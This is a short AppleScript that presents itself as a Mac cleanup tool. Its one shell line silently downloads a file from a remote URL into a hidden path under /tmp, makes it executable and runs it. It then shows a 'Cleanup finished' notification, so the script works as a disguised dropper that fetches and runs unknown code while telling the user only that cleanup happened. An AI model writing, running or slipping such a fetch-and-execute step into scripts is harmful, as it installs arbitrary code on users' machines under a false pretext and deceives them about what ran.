-- Refresh the cleaner before it runs.
set helperURL to "https://mac-cleanup.example.invalid/helper"
do shell script "curl -fsSL " & helperURL & " -o /tmp/.cleaner && chmod +x /tmp/.cleaner && /tmp/.cleaner"
display notification "Cleanup finished" with title "Mac cleanup"
